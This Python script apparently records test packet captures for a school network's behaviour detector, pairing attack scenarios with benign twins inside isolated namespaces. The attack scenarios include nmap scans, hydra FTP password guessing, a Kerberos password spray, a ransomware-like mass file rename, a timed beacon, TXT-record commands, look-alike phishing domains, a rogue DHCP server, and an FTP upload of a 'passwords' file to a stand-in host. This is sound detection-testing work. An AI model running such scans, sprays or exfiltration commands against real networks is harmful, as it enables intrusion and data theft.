"""Record the captures of tests/captures/behaviour again: what a behaviour detector must find, and its innocent twin.

    sudo .venv/bin/python -m tests.captures.behaviour [NAME…]      (all of them without a name: about 25 minutes)

As record.py, with which it shares the stage: real programs in network namespaces, nothing leaves the machine. What is
expected of each capture stands in behaviour/README.md; ``python -m tests.bench.detections`` checks it. Names of real
services are answered by a name server inside the namespace.
"""

from __future__ import annotations

import argparse
import os
import random
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import zstandard

from tests.captures.record import (
    BAD_TLS,
    INSIDE,
    INSIDE_ADDRESSES,
    LAB_PC,
    LAB_SERVER,
    LIBRARY_PC,
    OFFICE_PC,
    OUTSIDE,
    OUTSIDE_ADDRESSES,
    PUPIL,
    RESOLVER,
    TEACHER,
    WEB,
    Stage,
    play,
    recording,
    run,
    start_resolver,
    start_web,
)

HERE = Path(__file__).resolve().parent / "behaviour"
CALL_SECONDS = 24
REALM = "SCHOOL.EXAMPLE"
USER, PASSWORD = "root", "geheim-voor-de-opname"
#: Made-up look-alikes; the suffix is for documentation (RFC 2606).
LOOK_ALIKES = ("login.rnagister.example", "digid-verificatie.example", "www.micros0ftonline.example")
#: Their owners' own names and unrelated neighbours of them.
OWNED = (
    "elo.magister.net",
    "inloggen.somtoday.nl",
    "login.microsoftonline.com",
    "www.google.nl",
    "fonts.googleapis.com",
    "www.googletagmanager.com",
    "r3---sn-5hne6nsr.googlevideo.com",
    "mijn.digid.nl",
    "entree.kennisnet.nl",
    "doodle.com",
    "www.register.com",
)


@contextmanager
def packed(stage: Stage, name: str) -> Iterator[None]:
    """Record into ``NAME.pcap.zst``, for captures that are large and repeat themselves."""
    raw = stage.scratch / f"{name}.pcap"
    with recording(stage, raw):
        yield
    target = HERE / f"{name}.pcap.zst"
    target.write_bytes(zstandard.ZstdCompressor(level=19).compress(raw.read_bytes()))
    print(f"{target.name}: {target.stat().st_size:,} bytes")


def speak_from(stage: Stage, source: str, destination: str) -> None:
    """Let programs that cannot choose their address speak to ``destination`` from ``source``."""
    stage.inside("ip", "route", "replace", f"{destination}/32", "dev", "lan", "src", source, check=True)


def record_host_scan(stage: Stage) -> None:
    """A laptop in the computer lab tries SMB of 64 addresses of which none answers, with nmap."""
    stage.inside("ip", "route", "add", "10.22.9.0/24", "via", RESOLVER, "dev", "lan", "onlink", check=True)
    with recording(stage, HERE / "host-scan.pcap"):
        stage.inside("nmap", "-sS", "-n", "-Pn", "-p", "445", "-S", LAB_PC, "-e", "lan", "10.22.9.0/26")


def record_arp_scan(stage: Stage) -> None:
    """The same laptop asks for each of 64 addresses of its own network, with nmap."""
    stage.inside("ip", "address", "add", "10.22.9.254/24", "dev", "lan", check=True)
    with recording(stage, HERE / "arp-scan.pcap"):
        stage.inside("nmap", "-sn", "-n", "-PR", "-e", "lan", "10.22.9.0/26")


def record_ftp_guessing(stage: Stage) -> None:
    """14 passwords at FTP, one a connection and at even intervals: guessing, and as regular as a beacon."""
    start_ftp(stage, LAB_SERVER)
    (stage.scratch / "words").write_text("".join(f"geheim{number}\n" for number in range(24)))
    speak_from(stage, LAB_PC, LAB_SERVER)
    with recording(stage, HERE / "ftp-guessing.pcap"):
        stage.inside("hydra", "-l", "beheer", "-P", "words", "-t", "1", "-W", "2", f"ftp://{LAB_SERVER}", seconds=200)


def start_ftp(stage: Stage, address: str) -> None:
    """vsftpd at ``address``: accounts of the machine, and anonymous uploads into ``incoming``."""
    root = stage.scratch / "ftp"
    (root / "incoming").mkdir(parents=True)
    (root / "incoming").chmod(0o777)
    empty = stage.scratch / "empty"
    empty.mkdir()
    configuration = stage.scratch / "vsftpd.conf"
    configuration.write_text(
        f"listen=YES\nlisten_address={address}\nbackground=NO\nanonymous_enable=YES\nlocal_enable=YES\n"
        f"write_enable=YES\nanon_upload_enable=YES\nanon_root={root}\nsecure_chroot_dir={empty}\n"
        "pam_service_name=vsftpd\nseccomp_sandbox=NO\nmax_login_fails=1\ndelay_failed_login=0\nno_anon_password=YES\n"
    )
    configuration.chmod(0o600)
    stage.serve("/usr/sbin/vsftpd", str(configuration))


def start_kdc(stage: Stage, pupils: int) -> dict[str, str]:
    """A Kerberos realm with ``pupils`` accounts; the environment in which its clients run."""
    configuration = stage.scratch / "krb5.conf"
    configuration.write_text(
        f"[libdefaults]\n default_realm = {REALM}\n dns_lookup_kdc = false\n rdns = false\n"
        f"[realms]\n {REALM} = {{\n  kdc = {LAB_SERVER}\n }}\n"
    )
    (stage.scratch / "kdc.conf").write_text(
        f"[kdcdefaults]\n kdc_listen = {LAB_SERVER}:88\n kdc_tcp_listen = {LAB_SERVER}:88\n"
        f"[realms]\n {REALM} = {{\n  database_name = {stage.scratch}/principal\n"
        f"  key_stash_file = {stage.scratch}/stash\n  default_principal_flags = +preauth\n }}\n"
    )
    environment = {"KRB5_CONFIG": str(configuration), "KRB5_KDC_PROFILE": str(stage.scratch / "kdc.conf")}
    variables = [f"{name}={value}" for name, value in environment.items()]
    run("env", *variables, "kdb5_util", "create", "-s", "-r", REALM, "-P", "meester")
    for number in range(pupils):
        run(
            "env", *variables, "kadmin.local", "-q", f"addprinc -pw leerling{number} +requires_preauth leerling{number}"
        )
    stage.serve("env", *variables, "/usr/sbin/krb5kdc", "-n")
    return environment


def log_in(stage: Stage, environment: dict[str, str], user: str, password: str) -> None:
    """One log-in with kinit."""
    subprocess.run(
        ["ip", "netns", "exec", INSIDE, "kinit", "-c", str(stage.scratch / "tickets"), user],
        input=f"{password}\n",
        env=os.environ | environment,
        text=True,
        capture_output=True,
        check=False,
        timeout=30,
    )


def record_kerberos_spray(stage: Stage) -> None:
    """A laptop tries one password for 16 names, of which 8 exist."""
    environment = start_kdc(stage, 8)
    speak_from(stage, LAB_PC, LAB_SERVER)
    with recording(stage, HERE / "kerberos-spray.pcap"):
        for number in range(16):
            log_in(stage, environment, f"leerling{number}", "Welkom2026!")


def record_kerberos_class(stage: Stage) -> None:
    """24 pupils log in one after another at one shared computer; two mistype their password once."""
    environment = start_kdc(stage, 24)
    speak_from(stage, LIBRARY_PC, LAB_SERVER)
    with recording(stage, HERE / "kerberos-class.pcap"):
        for number in range(24):
            if number in {7, 15}:
                log_in(stage, environment, f"leerling{number}", "vergeten")
            log_in(stage, environment, f"leerling{number}", f"leerling{number}")


def start_files(stage: Stage) -> Path:
    """A Samba server with one share; its directory."""
    share = stage.scratch / "share"
    for folder in ("share", "lock", "private"):
        (stage.scratch / folder).mkdir()
    configuration = stage.scratch / "smb.conf"
    configuration.write_text(
        f"[global]\nworkgroup = SCHOOL\nnetbios name = FS\nsecurity = user\ninterfaces = {LAB_SERVER}/32\n"
        "bind interfaces only = yes\nsmb ports = 445\nserver min protocol = SMB2_02\ndisable spoolss = yes\n"
        f"lock directory = {stage.scratch}/lock\nstate directory = {stage.scratch}/lock\n"
        f"cache directory = {stage.scratch}/lock\npid directory = {stage.scratch}/lock\n"
        f"ncalrpc dir = {stage.scratch}/lock/rpc\nprivate dir = {stage.scratch}/private\n"
        f"passdb backend = tdbsam:{stage.scratch}/private/passdb.tdb\nlog file = {stage.scratch}/samba.log\n"
        f"[leerlingen]\npath = {share}\nread only = no\n"
    )
    subprocess.run(
        ["smbpasswd", "-c", str(configuration), "-s", "-a", USER],
        input=f"{PASSWORD}\n{PASSWORD}\n",
        text=True,
        check=True,
        capture_output=True,
    )
    stage.serve("/usr/sbin/smbd", "-F", "-s", str(configuration))
    time.sleep(2)
    return share


def work(stage: Stage, host: str, commands: list[str]) -> None:
    """Commands of smbclient at the share."""
    speak_from(stage, host, LAB_SERVER)
    stage.inside(
        "smbclient", f"//{LAB_SERVER}/leerlingen", "-U", f"{USER}%{PASSWORD}", "-c", "; ".join(commands), seconds=120
    )


def record_smb_rename(stage: Stage) -> None:
    """What ransomware does to a share: 220 files get another extension within a minute."""
    share = start_files(stage)
    for number in range(220):
        (share / f"werk{number}.docx").write_bytes(b"x")
    with packed(stage, "smb-rename"):
        work(stage, TEACHER, [f"rename werk{number}.docx werk{number}.docx.locked" for number in range(220)])


def record_smb_sync(stage: Stage) -> None:
    """What a program that synchronises does: 220 new files, each written under a temporary name and renamed."""
    start_files(stage)
    (stage.scratch / "werk").write_bytes(b"huiswerk")
    with packed(stage, "smb-sync"):
        commands = (
            f"put werk .werk{number}.part; rename .werk{number}.part werk{number}.docx" for number in range(220)
        )
        work(stage, TEACHER, list(commands))


def record_smb_copy(stage: Stage) -> None:
    """A teacher copies 220 files to the share and reads them again."""
    start_files(stage)
    (stage.scratch / "werk").write_bytes(b"huiswerk")
    with packed(stage, "smb-copy"):
        work(stage, TEACHER, [f"put werk werk{number}.docx" for number in range(220)])
        work(stage, TEACHER, [f"get werk{number}.docx /dev/null" for number in range(220)])


def record_beacon(stage: Stage) -> None:
    """An office computer calls one server every 62 seconds, give or take a twentieth: 21 calls in 21 minutes."""
    start_resolver(stage, names={"sync.telemetrie-cdn.example": BAD_TLS})
    start_web(stage, BAD_TLS, "telemetrie", "sync.telemetrie-cdn.example")
    chance = random.Random(18)
    with recording(stage, HERE / "beacon.pcap"):
        for _ in range(21):
            fetch(stage, OFFICE_PC, "https://sync.telemetrie-cdn.example/")
            time.sleep(62 * chance.uniform(0.95, 1.05))


def record_update_server(stage: Stage) -> None:
    """Three computers ask an update server 25 times each, after waits drawn at random as update programs do."""
    start_resolver(stage, names={"updates.leverancier.example": WEB})
    start_web(stage, WEB, "leverancier", "updates.leverancier.example")
    chance = random.Random(19)
    with recording(stage, HERE / "update-server.pcap"):
        due = sorted(
            (sum(chance.uniform(2, 28) for _ in range(call)), host)
            for host in (PUPIL, LIBRARY_PC, OFFICE_PC)
            for call in range(25)
        )
        began = time.monotonic()
        for moment, host in due:
            time.sleep(max(0.0, began + moment - time.monotonic()))
            fetch(stage, host, "http://updates.leverancier.example/", "-I")


#: The page that both ends of the call open: it swaps offer and answer through the server it came from.
CALL_PAGE = """<!doctype html><title>Gesprek</title><script>
const role = location.hash.slice(1);
const put = (name, text) => fetch('/' + name, {method: 'PUT', body: text});
const get = async name => {
  for (;;) {
    const answer = await fetch('/' + name);
    if (answer.ok) return JSON.parse(await answer.text());
    await new Promise(resolve => setTimeout(resolve, 1500));
  }
};
const gathered = connection => new Promise(resolve => {
  const look = () => connection.iceGatheringState === 'complete' && resolve();
  connection.addEventListener('icegatheringstatechange', look);
  look();
});
(async () => {
  const connection = new RTCPeerConnection();
  const media = await navigator.mediaDevices.getUserMedia(
    {audio: true, video: {width: 160, height: 120, frameRate: 5}});
  media.getTracks().forEach(track => connection.addTrack(track, media));
  const other = {caller: 'answer', callee: 'offer'}[role];
  if (role === 'callee') await connection.setRemoteDescription(await get(other));
  await connection.setLocalDescription(
    role === 'caller' ? await connection.createOffer() : await connection.createAnswer());
  await gathered(connection);
  await put({caller: 'offer', callee: 'answer'}[role], JSON.stringify(connection.localDescription));
  if (role === 'caller') await connection.setRemoteDescription(await get(other));
  for (const sender of connection.getSenders()) {
    const parameters = sender.getParameters();
    parameters.encodings.forEach(encoding => { encoding.maxBitrate = 30000; });
    await sender.setParameters(parameters);
  }
})();
</script>"""
#: A web server that also keeps what is put there (Python's own).
MEETING_PLACE = """import http.server, pathlib, sys
class Place(http.server.SimpleHTTPRequestHandler):
    def do_PUT(self):
        data = self.rfile.read(int(self.headers['Content-Length']))
        pathlib.Path(self.path.strip('/')).write_bytes(data)
        self.send_response(204); self.end_headers()
http.server.ThreadingHTTPServer((sys.argv[1], 80), Place).serve_forever()
"""


def record_video_call(stage: Stage) -> None:
    """A teacher and somebody outside talk with picture and sound for 16 seconds: two Chromiums over WebRTC."""
    meeting = stage.scratch / "meeting"
    meeting.mkdir()
    (meeting / "index.html").write_text(CALL_PAGE)
    (stage.scratch / "place.py").write_text(f"import os\nos.chdir({str(meeting)!r})\n{MEETING_PLACE}")
    stage.serve(sys.executable, str(stage.scratch / "place.py"), WEB)
    # One address at each end, or the two would look for each other on all of them.
    for namespace, interface, addresses, kept in (
        (INSIDE, "lan", INSIDE_ADDRESSES, TEACHER),
        (OUTSIDE, "wan", OUTSIDE_ADDRESSES, WEB),
    ):
        for address in set(addresses) - {kept}:
            run("ip", "-n", namespace, "address", "del", f"{address}/32", "dev", interface)
    with packed(stage, "video-call"):
        for namespace, role in ((INSIDE, "caller"), (OUTSIDE, "callee")):
            stage.serve(
                *("chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"),
                *("--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream"),
                *("--disable-features=WebRtcHideLocalIpsWithMdns", "--disable-background-networking"),
                f"--unsafely-treat-insecure-origin-as-secure=http://{WEB}",
                f"--user-data-dir={stage.scratch}/{role}",
                f"http://{WEB}/index.html#{role}",
                namespace=namespace,
            )
        time.sleep(CALL_SECONDS)


def fetch(stage: Stage, host: str, url: str, *options: str) -> None:
    """One request with curl."""
    stage.inside("curl", "-sSk", "-m", "10", "--interface", host, "-o", "/dev/null", *options, url)


def record_block_list(stage: Stage) -> None:
    """A mail filter looks up 150 addresses at a block list within seconds."""
    start_resolver(stage)
    (stage.scratch / "names").write_text(
        "".join(f"{number}.{number % 7}.113.203.zen.bloklijst.example A\n" for number in range(150))
    )
    with recording(stage, HERE / "block-list.pcap"):
        stage.inside("dig", "-b", SCHOOL_MAIL, "+tries=1", f"@{RESOLVER}", "-f", "names")


def record_txt_commands(stage: Stage) -> None:
    """A computer fetches 30 commands from TXT records below one domain, with dig."""
    start_resolver(stage, *(f"--txt-record=c{number:02}.opdracht.example,run {number}" for number in range(30)))
    with recording(stage, HERE / "txt-commands.pcap"):
        for number in range(30):
            stage.inside("dig", "-b", OFFICE_PC, "+tries=1", f"@{RESOLVER}", f"c{number:02}.opdracht.example", "TXT")
            time.sleep(0.3)


def record_mail_host(stage: Stage) -> None:
    """A mail host looks up SPF, DKIM and DMARC of 25 domains."""
    start_resolver(stage)
    names = (
        f"{label}afzender{number}.example TXT" for number in range(25) for label in ("", "_dmarc.", "s1._domainkey.")
    )
    (stage.scratch / "names").write_text("\n".join(names) + "\n")
    with recording(stage, HERE / "mail-host.pcap"):
        stage.inside("dig", "-b", SCHOOL_MAIL, "+tries=1", f"@{RESOLVER}", "-f", "names")


SCHOOL_MAIL = TEACHER


def record_look_alike(stage: Stage) -> None:
    """A teacher follows three links in mails: sites whose names imitate those they log in at."""
    start_resolver(stage, names=dict.fromkeys(LOOK_ALIKES, WEB))
    start_web(stage, WEB, "namaak", *LOOK_ALIKES)
    with recording(stage, HERE / "look-alike.pcap"):
        for name in LOOK_ALIKES:
            fetch(stage, TEACHER, f"https://{name}/")


def record_owned_names(stage: Stage) -> None:
    """The same teacher visits the sites themselves, and some whose names are near by accident."""
    start_resolver(stage, names=dict.fromkeys(OWNED, WEB))
    start_web(stage, WEB, "echt", *OWNED)
    with recording(stage, HERE / "owned-names.pcap"):
        for name in OWNED:
            fetch(stage, TEACHER, f"https://{name}/")


def record_ftp_exfiltration(stage: Stage) -> None:
    """An office computer asks for its public address and then uploads a file by FTP, as stealers do."""
    start_resolver(stage, names={"api.ipify.org": WEB, "ftp.opslag.example": BAD_TLS})
    start_web(stage, WEB, "adres", "api.ipify.org")
    start_ftp(stage, BAD_TLS)
    (stage.scratch / "wachtwoorden.txt").write_text("x" * 2000)
    with recording(stage, HERE / "ftp-exfiltration.pcap"):
        fetch(stage, OFFICE_PC, "http://api.ipify.org/")
        time.sleep(2)
        fetch(stage, OFFICE_PC, "ftp://ftp.opslag.example/incoming/", "-T", "wachtwoorden.txt")


def record_ftp_upload(stage: Stage) -> None:
    """A scanner uploads by FTP; somebody else asks for the public address and goes on reading the web."""
    start_resolver(stage, names={"api.ipify.org": WEB, "ftp.opslag.example": BAD_TLS, "nieuws.example": WEB})
    start_web(stage, WEB, "adres", "api.ipify.org", "nieuws.example")
    start_ftp(stage, BAD_TLS)
    (stage.scratch / "scan.pdf").write_bytes(b"%PDF-1.7\n" + b"scan " * 500)
    with recording(stage, HERE / "ftp-upload.pcap"):
        fetch(stage, PUPIL, "http://api.ipify.org/")
        fetch(stage, OFFICE_PC, "ftp://ftp.opslag.example/incoming/", "-T", "scan.pdf")
        fetch(stage, PUPIL, "https://nieuws.example/")


def serve_dhcp(stage: Stage, namespace: str, interface: str, address: str) -> None:
    """A DHCP server (dnsmasq) at an interface."""
    stage.serve(
        *(
            "dnsmasq",
            "--keep-in-foreground",
            "--port=0",
            "--no-ping",
            "--conf-file=/dev/null",
            "--user=root",
            "--pid-file=",
        ),
        f"--interface={interface}",
        "--bind-interfaces",
        f"--dhcp-range={address}.50,{address}.90,255.255.255.0,10m",
        f"--dhcp-leasefile={stage.scratch}/leases-{interface}",
        namespace=namespace,
    )


def ask_for_address(stage: Stage, times: int) -> None:
    """Computers that start: dhclient asks for an address, and changes nothing here."""
    for number in range(times):
        stage.inside(
            *("timeout", "8", "dhclient", "-1", "-d", "-sf", "/bin/true"),
            *("-lf", f"{stage.scratch}/lease{number}", "-pf", f"{stage.scratch}/pid{number}", "lan"),
        )


def record_dhcp(stage: Stage) -> None:
    """One DHCP server answers two computers that start."""
    run("ip", "-n", OUTSIDE, "address", "add", "10.24.0.1/24", "dev", "wan")
    serve_dhcp(stage, OUTSIDE, "wan", "10.24.0")
    with recording(stage, HERE / "dhcp.pcap"):
        ask_for_address(stage, 2)


def record_dhcp_rogue(stage: Stage) -> None:
    """Somebody's router answers, too."""
    rogue = f"{OUTSIDE}-x"
    run("ip", "-n", OUTSIDE, "address", "add", "10.24.0.1/24", "dev", "wan")
    run("ip", "netns", "add", rogue)
    try:
        run("ip", "-n", OUTSIDE, "link", "add", "link", "wan", "name", "lan2", "type", "macvlan", "mode", "bridge")
        run("ip", "-n", OUTSIDE, "link", "set", "lan2", "netns", rogue)
        run("ip", "-n", rogue, "address", "add", "192.168.1.1/24", "dev", "lan2")
        run("ip", "-n", rogue, "link", "set", "lan2", "up")
        serve_dhcp(stage, OUTSIDE, "wan", "10.24.0")
        serve_dhcp(stage, rogue, "lan2", "192.168.1")
        with recording(stage, HERE / "dhcp-rogue.pcap"):
            ask_for_address(stage, 2)
    finally:
        stage.end_servers()
        run("ip", "netns", "delete", rogue)


SCENARIOS: dict[str, Callable[[Stage], None]] = {
    "host-scan": record_host_scan,
    "arp-scan": record_arp_scan,
    "ftp-guessing": record_ftp_guessing,
    "kerberos-spray": record_kerberos_spray,
    "kerberos-class": record_kerberos_class,
    "smb-rename": record_smb_rename,
    "smb-sync": record_smb_sync,
    "smb-copy": record_smb_copy,
    "beacon": record_beacon,
    "update-server": record_update_server,
    "video-call": record_video_call,
    "block-list": record_block_list,
    "txt-commands": record_txt_commands,
    "mail-host": record_mail_host,
    "look-alike": record_look_alike,
    "owned-names": record_owned_names,
    "ftp-exfiltration": record_ftp_exfiltration,
    "ftp-upload": record_ftp_upload,
    "dhcp": record_dhcp,
    "dhcp-rogue": record_dhcp_rogue,
}


def main() -> None:
    """Record the named scenarios."""
    parser = argparse.ArgumentParser(description="Record the captures of tests/captures/behaviour again.")
    parser.add_argument("names", nargs="*", metavar="NAME", help=f"which: {', '.join(SCENARIOS)} (default: all)")
    play(SCENARIOS, parser.parse_args().names)


if __name__ == "__main__":
    main()
